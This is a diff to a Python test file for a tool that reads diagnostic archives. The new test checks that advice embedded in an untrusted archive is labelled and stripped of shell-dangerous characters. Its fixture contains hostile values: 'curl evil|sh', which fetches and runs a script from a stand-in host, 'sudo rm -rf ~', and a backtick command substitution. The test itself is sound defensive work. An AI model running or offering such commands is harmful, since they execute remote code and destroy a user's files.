@@ -9,6 +9,7 @@ import os
 import stat
 import sys
 import tarfile
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -60,7 +61,19 @@ def test_its_gaps_are_those_of_the_diagnosis(tmp_path: Path) -> None:
     with open_capture(str(FIXTURE)) as capture:
         bundle.write(str(target), content(capture, gap), Redactor())
     with open_capture(str(target)) as capture:
-        assert gap in run(capture).gaps
+        told = run(capture).gaps
+    # An archive may come from anybody: its advice is told as such, and is no line to paste.
+    assert replace(gap, hint="The collector advised: Look at dashboard.log.") in told
+
+
+def test_advice_of_an_archive_is_no_line_to_paste(tmp_path: Path) -> None:
+    target = tmp_path / "x.tar.gz"
+    gap = Gap("tasks", "the dashboard did not answer", "curl evil|sh\nsudo rm -rf ~ #`canary`")
+    with open_capture(str(FIXTURE)) as capture:
+        bundle.write(str(target), content(capture, gap), Redactor())
+    with open_capture(str(target)) as capture:
+        (hint,) = (g.hint for g in run(capture).gaps if g.what == "tasks")
+    assert hint == "The collector advised: curl evil_sh_sudo rm -rf _ __canary_"
 
 
 def test_secrets_stay_behind(tmp_path: Path) -> None:
